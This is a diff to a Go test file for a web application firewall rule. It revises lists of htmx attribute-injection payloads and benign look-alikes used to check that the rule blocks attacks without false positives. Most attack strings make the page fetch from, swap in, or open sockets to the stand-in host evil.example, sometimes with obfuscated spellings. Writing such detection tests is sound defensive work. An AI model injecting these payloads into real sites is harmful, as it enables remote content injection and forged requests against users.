@@ -9,13 +9,16 @@ import (
 // attributes in a tag, which the CRS alone passes (rule 210122).
 var htmxAttacks = []string{
 	`<div hx-get="https://evil.example/x" hx-trigger="load" hx-swap="outerHTML"></div>`,
-	`<div hx-get="/admin/delete" hx-trigger="load"></div>`,
-	`<div hx-post="/admin/users/1/delete" hx-trigger="load">`, `<span data-hx-get="https://evil.example/x" data-hx-trigger="load">`,
-	`<div class="card" hx-put="/api/profile" hx-trigger="load">`,
-	`<p/hx-patch="/api/me" hx-trigger="load">`, `<div HX-GET='/x' hx-trigger=load>`, `<a href="#"hx-get="/x">`,
-	`<div hx-on::after-request="x()">`,
-	`<section hx-delete="/api/account" hx-trigger="load">`, `<div hx-on--load="x()">`, `<div hx-vals='js:{a: 1}'>`,
+	`<span data-hx-get="https://evil.example/x" data-hx-trigger="load">`,
+	`<div class="card" hx-put="//evil.example/x" hx-trigger="load">`,
+	`<p/hx-patch="https://evil.example/x" hx-trigger="load">`, `<div HX-GET='HTTPS://evil.example/x' hx-trigger=load>`, `<a href="#"hx-get="//evil.example">`,
+	`<div hx-on::after-request="x()">`, `<div hx-post = " https://evil.example/x">`,
+	`<section hx-delete="\\evil.example/x" hx-trigger="load">`, `<div hx-on--load="x()">`, `<div hx-vals='js:{a: 1}'>`,
 	`<div data-hx-on:click="x()">`,
+	// attack 20's: htmx 1.x's server-sent events and web sockets, the
+	// extensions' connections
+	`<div hx-sse="connect:https://evil.example/x">`, `<div hx-ws="connect:wss://evil.example">`,
+	`<div hx-ext="ws" ws-connect="wss://evil.example/x">`, `<div hx-ext="sse" sse-connect="https://evil.example/x" sse-swap="m">`,
 }
 
 // htmxCRSCatches are htmx payloads the CRS alone refuses already (an
@@ -32,6 +35,12 @@ var htmxBenign = []string{
 	"use hx-get for that", `hx-post="/x" sends a POST`, `<div class="hx-get">`, `<div class="x hx-get">hello</div>`,
 	`<div hx-swap="outerHTML">`, `<div hx-target="#list">`, `<div hx-include="#form">`, "hx-on:click runs code",
 	`<code>hx-get</code> loads a fragment`, "<b>hx-get=</b>", "the hx-getter and hx-poster classes", `<div id="hx-get-demo">`,
+	// attack 20's false positives: markup with the site's own paths in a
+	// forum question, a Markdown fence, a site builder's page; htmx 2's
+	// same-origin request is left to the application (not refused)
+	`How do I reload just the table? I have <button hx-get="/contacts/table" hx-target="#table" hx-swap="outerHTML">Reload</button>`,
+	"```html\n<tr hx-delete=\"/rows/3\" hx-confirm=\"Sure?\">\n```", `<div hx-post="/newsletter" hx-swap="outerHTML">Subscribe</div>`,
+	`<div hx-post="/admin/users/1/delete" hx-trigger="load">`, `<div hx-get="contacts?page=2">`,
 }
 
 // TestHTMXBeyondTheCRS: rule 210122 refuses htmxAttacks in the query and
